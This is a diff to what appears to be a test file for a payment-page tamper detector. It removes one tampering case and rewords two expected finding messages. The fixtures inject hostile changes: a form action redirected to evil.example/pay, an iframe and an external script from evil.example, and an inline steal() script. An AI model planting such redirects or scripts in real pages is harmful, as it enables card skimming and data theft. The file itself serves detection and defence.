@@ -37,11 +37,6 @@ const TAMPERINGS: readonly Tampering[] = [
     html: (html) => html.replace(/action="\/pay/, 'action="https://evil.example/pay'),
   },
   {
-    name: 'a foreign action in the props of the form',
-    finding: 'Not of this build: <div id="card-form-root"',
-    html: (html) => html.replace('&quot;/pay/', '&quot;https://evil.example/pay/'),
-  },
-  {
     name: 'a frame',
     finding: 'Not of this build: <iframe',
     html: inBody('<iframe src="//evil.example">'),
@@ -117,12 +112,12 @@ const TAMPERINGS: readonly Tampering[] = [
   },
   {
     name: 'a script of another origin',
-    finding: 'A script of another origin: https://evil.example',
+    finding: 'A script of another address: https://evil.example',
     html: inBody('<script src="https://evil.example/s.js"></script>'),
   },
   {
     name: 'a script in the page',
-    finding: 'Not what the inventory says: inline',
+    finding: 'Not in the inventory: sha384-',
     html: inBody('<script>steal()</script>'),
   },
   {
